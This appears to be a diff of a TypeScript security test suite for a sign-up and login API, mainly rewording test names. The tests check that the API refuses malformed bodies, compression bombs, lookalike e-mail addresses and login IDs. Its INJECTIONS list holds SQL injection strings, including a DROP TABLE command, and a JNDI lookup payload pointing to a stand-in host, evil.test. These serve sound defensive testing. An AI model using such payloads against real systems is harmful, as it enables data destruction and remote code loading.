@@ -149,8 +149,8 @@ async function expectUnharmed(): Promise<void> {
 const json = (raw: string | Buffer): RequestOptions => ({ raw, headers: { 'content-type': 'application/json' } });
 const firstField = ({ fields }: Operation): string => Object.keys(fields)[0] ?? 'token';
 
-describe('a body that is not what the operation takes', () => {
-  it('IV-01 has a table of operations to go by, none forgotten', () => {
+describe('a malformed request body', () => {
+  it('IV-01 the table of operations covers every operation with a body', () => {
     const paths = operations.map(({ method, path }) => `${method} ${path}`);
     expect(paths).toEqual(
       expect.arrayContaining([
@@ -165,14 +165,14 @@ describe('a body that is not what the operation takes', () => {
     expect(paths.length).toBeGreaterThanOrEqual(17);
   });
 
-  it('IV-01 is refused where it is no object', async () => {
+  it('IV-01 a body that is no object is refused', async () => {
     const values = ['null', '[]', '[{}]', '[null]', '"text"', '""', '0', '1e400', 'true', '[["email","a@b.test"]]'];
     await expectAllRefused(
       values.map((raw) => ({ name: raw, request: () => json(raw), answers: ['422 validation_failed'] })),
     );
   });
 
-  it('IV-01 is refused where something that must be there is missing', async () => {
+  it('IV-01 a missing required field is refused', async () => {
     const before = await membersNow();
     const demanding = operations.filter(({ body }) => Object.keys(body).length > 0);
     for (const operation of demanding) {
@@ -191,7 +191,7 @@ describe('a body that is not what the operation takes', () => {
     expect(await membersNow()).toEqual(before);
   });
 
-  it('IV-03 is refused where it names a field that nobody asked for', async () => {
+  it('IV-03 an unknown field is refused', async () => {
     const names = [
       ...['role', 'isAdmin', 'emailVerified', 'id', 'memberId', 'createdAt', 'passwordHash', 'status', 'nested.field'],
       ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', '$where'],
@@ -216,7 +216,7 @@ describe('a body that is not what the operation takes', () => {
     expect((await app.post('/api/auth/login', {}).expect(422)).body.errors).toHaveLength(2);
   });
 
-  it('ML-03 is refused where it gives one field twice', async () => {
+  it('ML-03 a duplicate field is refused', async () => {
     await expectAllRefused(
       [
         ['a', 'b'],
@@ -231,7 +231,7 @@ describe('a body that is not what the operation takes', () => {
     );
   });
 
-  it('is refused where it is no JSON', async () => {
+  it('invalid JSON is refused', async () => {
     const bodies = [
       ...['{', '}', '{"a":}', "{'a':1}", '{a:1}', '{"a":1,}', '[1,]', 'NaN', 'undefined', 'Infinity', '{"a":01}'],
       ...['{"a":1}{"b":2}', '// a\n{}', '/**/{}', '{"a":"\u0001"}', '{"a":"\n"}', '{"a":"\\x41"}', '{"a":"\\u12"}'],
@@ -246,7 +246,7 @@ describe('a body that is not what the operation takes', () => {
     );
   });
 
-  it('IV-02 is refused where it is not UTF-8, or begins with a byte order mark', async () => {
+  it('IV-02 a body that is not UTF-8, or begins with a byte order mark, is refused', async () => {
     const inField = (bytes: number[]) => (operation: Operation) =>
       json(Buffer.concat([Buffer.from(`{"${firstField(operation)}":"a`), Buffer.from(bytes), Buffer.from('"}')]));
     const whole = (bytes: (text: string) => Buffer) => (operation: Operation) =>
@@ -268,7 +268,7 @@ describe('a body that is not what the operation takes', () => {
     await expectAllRefused(bodies.map(([name, request]) => ({ name, request, answers: ['400 malformed_json'] })));
   });
 
-  it('IV-01 is refused where it nests deeply or holds thousands of fields', async () => {
+  it('IV-01 deep nesting and thousands of fields are refused', async () => {
     const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
     const deepObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
     const keys = (count: number) => `{${Array.from({ length: count }, (_, n) => `"${n.toString(36)}":0`).join()}}`;
@@ -288,7 +288,7 @@ describe('a body that is not what the operation takes', () => {
     await expectAllRefused(bodies.map(([name, request, answers]) => ({ name, request, answers })));
   });
 
-  it('IV-01, IV-02 is refused, with the name of the field, where one field is of the wrong kind', async () => {
+  it('IV-01, IV-02 a field of the wrong type is refused by name', async () => {
     const before = await membersNow();
     const cases = operations.flatMap((operation) =>
       Object.entries(operation.fields).flatMap(([name, schema]) =>
@@ -309,7 +309,7 @@ describe('a body that is not what the operation takes', () => {
     await expectUnharmed();
   });
 
-  it('is otherwise taken: the documented examples pass the same checks', async () => {
+  it('the documented examples pass the same checks', async () => {
     const { accessToken, refreshToken } = await given.member(app);
     for (const operation of operations) {
       const token = { [ada.accessToken]: accessToken, [ada.refreshToken]: refreshToken }[operation.token ?? ''];
@@ -361,8 +361,8 @@ const isSecondFactor = (value: string): boolean =>
 
 const pair = (name: string, value: unknown): string => `${JSON.stringify(name)}:${JSON.stringify(value)}`;
 
-describe('a request of the wrong form', () => {
-  it('TR-04 is refused where the content is not called JSON', async () => {
+describe('a malformed request', () => {
+  it('TR-04 a content type other than JSON is refused', async () => {
     const types = [
       ...['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/json'],
       ...['text/plain; application/json', 'application/xml', 'application/octet-stream', 'application/jsonp'],
@@ -392,7 +392,7 @@ describe('a request of the wrong form', () => {
     ]);
   });
 
-  it('IV-04 is refused unread where it is compressed', async () => {
+  it('IV-04 a compressed body is refused unread', async () => {
     const bomb = gzipSync(Buffer.alloc(20_000_000, ' '));
     expect(bomb.length).toBeLessThan(64 * 1024);
     await expectAllRefused(
@@ -404,7 +404,7 @@ describe('a request of the wrong form', () => {
     );
   });
 
-  it('IV-04 is refused unread where it is too large, whether it says so or not', async () => {
+  it('IV-04 an oversized body is refused unread, with or without a declared length', async () => {
     const large = `{"a":"${'a'.repeat(64 * 1024)}"}`;
     await expectAllRefused([
       { name: '64 KB', request: () => json(large), answers: ['413 payload_too_large'] },
@@ -421,7 +421,7 @@ describe('a request of the wrong form', () => {
     expect(status).toBe(422);
   });
 
-  it('PW-07 is refused where it has a query, and what stood there is not logged', async () => {
+  it('PW-07 a query string is refused and not logged', async () => {
     const secret = unique.password().replaceAll(' ', '-');
     const before = await membersNow();
     for (const operation of operations) {
@@ -438,21 +438,21 @@ describe('a request of the wrong form', () => {
     await expectUnharmed();
   });
 
-  it('SL-01 is told the name of a field that is not known, and nothing of what is no name', async () => {
+  it('SL-01 an unknown field is named in the refusal, and text that is no name is not repeated', async () => {
     const phrase = unique.password();
     const { body, text } = await app.post(SIGN_UP, { ...unique.signUp(), nickname: 'x', [phrase]: 'x' }).expect(422);
     expect(body.errors.map(({ field }: { field: string }) => field)).toEqual(['nickname', '?']);
     expect(text).not.toContain(phrase.split(' ')[0]);
   });
 
-  it('PW-07 is not found where it carries a secret in its path', async () => {
+  it('PW-07 a secret in the path is answered with 404', async () => {
     for (const path of ['/api/auth/verify', '/api/auth/sign-up/confirm-link', '/api/auth/password-reset']) {
       expect((await app.post(`${path}/${ada.accessToken}`, {})).status).toBe(404);
     }
     expect(app.logs.filter((line) => line.includes(ada.accessToken))).toEqual([]);
   });
 
-  it('IV-04 is refused where its head is too large', async () => {
+  it('IV-04 an oversized request head is refused', async () => {
     const many = Object.fromEntries(Array.from({ length: 1500 }, (_, n) => [`x-${n}`, 'a'.repeat(10)]));
     for (const headers of [{ 'x-large': 'a'.repeat(17_000) }, { cookie: `a=${'a'.repeat(17_000)}` }, many]) {
       const answer = await app.request('POST', SIGN_UP, { body: {}, headers });
@@ -464,7 +464,7 @@ describe('a request of the wrong form', () => {
     await expectUnharmed();
   });
 
-  it('TR-07 is refused, and the connection closed, where it is hardly HTTP', async () => {
+  it('TR-07 bytes that are hardly HTTP are refused and the connection is closed', async () => {
     const post = (lines: string, body = '') => `POST ${SIGN_UP} HTTP/1.1\r\nHost: localhost\r\n${lines}\r\n\r\n${body}`;
     const type = 'Content-Type: application/json';
     const frames: (string | Buffer)[] = [
@@ -512,7 +512,7 @@ describe('a request of the wrong form', () => {
   });
 });
 
-describe('an address that is no single plain address', () => {
+describe('an e-mail address of unusual form', () => {
   const operationsThatMail = [
     [SIGN_UP, (email: unknown) => ({ ...unique.signUp(), email })],
     [SEND_RESET_CODE, (email: unknown) => ({ email })],
@@ -537,7 +537,7 @@ describe('an address that is no single plain address', () => {
     expect(await outbox()).toBe(before);
   }
 
-  it('ML-03 is refused where it is several', async () => {
+  it('ML-03 several addresses in one field are refused', async () => {
     const [a, b] = [ada.email, unique.email()];
     await expectNobodyMailed([
       ...[[a], [a, b], { 0: a, 1: b }, { email: a }, { address: a }, [[a]]],
@@ -548,7 +548,7 @@ describe('an address that is no single plain address', () => {
     ]);
   });
 
-  it('ML-04 is refused where the grammar of mail would have it but nobody needs it', async () => {
+  it('ML-04 forms that only the mail grammar allows are refused', async () => {
     const label = 'a'.repeat(63);
     await expectNobodyMailed([
       ...['', ' ', 'ada', '@', '@example.test', 'ada@', 'ada@@example.test', 'a@b@example.test', 'ada@example'],
@@ -592,7 +592,7 @@ describe('an address that is no single plain address', () => {
     ]);
   });
 
-  it('ML-04 is refused however deep it nests', async () => {
+  it('ML-04 a deeply nested address is refused', async () => {
     await expectNobodyMailed([
       `${'('.repeat(10_000)}ada@example.test`,
       `${'g:'.repeat(10_000)}${ada.email}${';'.repeat(10_000)}`,
@@ -605,7 +605,7 @@ describe('an address that is no single plain address', () => {
     ]);
   });
 
-  it('ML-04 is taken up to the limits: 64 octets before the @ and 254 in all', async () => {
+  it('ML-04 an address up to 64 octets before the @ and 254 in all is accepted', async () => {
     const label = 'a'.repeat(63);
     const tag = unique.loginId();
     const longest = `${tag.padEnd(58, 'x')}@${label}.${label}.${label}.com`;
@@ -620,7 +620,7 @@ describe('an address that is no single plain address', () => {
     }
   });
 
-  it('ML-04 is taken with an international domain, and mailed to its ASCII form', async () => {
+  it('ML-04 an international domain is accepted and mailed to in its ASCII form', async () => {
     const local = unique.loginId();
     for (const domain of ['B\u00fccher.example', '\ubb38\uc9c0\uae30.example']) {
       await app.post(SIGN_UP, { ...unique.signUp(), email: `${local}@${domain}` }).expect(202);
@@ -634,7 +634,7 @@ describe('an address that is no single plain address', () => {
     ]);
   });
 
-  it('IV-06 is refused where it only looks like another', async () => {
+  it('IV-06 an address with lookalike characters is refused', async () => {
     const local = unique.loginId();
     await expectNobodyMailed([
       `${local}\uff20example.test`, // a full-width @
@@ -656,7 +656,7 @@ describe('an address that is no single plain address', () => {
     ]);
   });
 
-  it('IV-06 is the same address in every spelling that is accepted', async () => {
+  it('IV-06 every accepted spelling is the same address', async () => {
     const owner = await given.member(app);
     const [local, domain] = owner.email.split('@') as [string, string];
     const spellings = [
@@ -678,8 +678,8 @@ describe('an address that is no single plain address', () => {
   });
 });
 
-describe('a login ID that only looks like another', () => {
-  it('IV-06 is refused, or is the same in another case', async () => {
+describe('a login ID with lookalike characters', () => {
+  it('IV-06 a lookalike is refused; another case is the same login ID', async () => {
     const lookAlikes = ['\u212aate1234', 'kate\uff11234', '\uff4bate1234', 'k\u0430te1234', 'kate\u200b1234'];
     const malformed = ['ka\u0301te1234', '\ufb01ona123', 'kate 1234', 'kate\u00001234', '../kate1234', 'kate@1234'];
     for (const loginId of [...lookAlikes, ...malformed]) {
@@ -696,7 +696,7 @@ describe('a login ID that only looks like another', () => {
     await login(kate.loginId.replace('k', '\uff4b')).expect(401);
   });
 
-  it('IV-06 is refused where the service keeps it for itself', async () => {
+  it('IV-06 a reserved login ID is refused', async () => {
     for (const loginId of ['admin', 'ADMIN', ' admin ', 'ad.min', 'a-d-m-i-n', 'no_reply', 'postmaster', 'munjigi']) {
       const { body } = await app.post(SIGN_UP, { ...unique.signUp(), loginId }).expect(422);
       expect(body.errors).toMatchObject([{ field: 'loginId', code: 'login_id_reserved' }]);
@@ -704,7 +704,7 @@ describe('a login ID that only looks like another', () => {
   });
 });
 
-describe('text that means something to somebody else', () => {
+describe('text with a meaning in another language', () => {
   const INJECTIONS = [
     "' OR 1=1--",
     "'; DROP TABLE members;--",
@@ -729,7 +729,7 @@ describe('text that means something to somebody else', () => {
     '${jndi:ldap://evil.test/a}',
   ];
 
-  it('ML-05 travels in a name as the text that it is', async () => {
+  it('ML-05 markup and templates in a name are mailed as plain text', async () => {
     await each(INJECTIONS, async (name) => {
       const values = { ...unique.signUp(), name };
       const client = app.client({ headers: { 'user-agent': name } });
@@ -751,7 +751,7 @@ describe('text that means something to somebody else', () => {
     await expectUnharmed();
   });
 
-  it('IV-05 finds nothing and breaks nothing in any other field', async () => {
+  it('IV-05 injections into any other field find nothing and break nothing', async () => {
     const before = await membersNow();
     const sleeps = await countPgSleeps(app);
     const cases = operations.flatMap((operation) =>
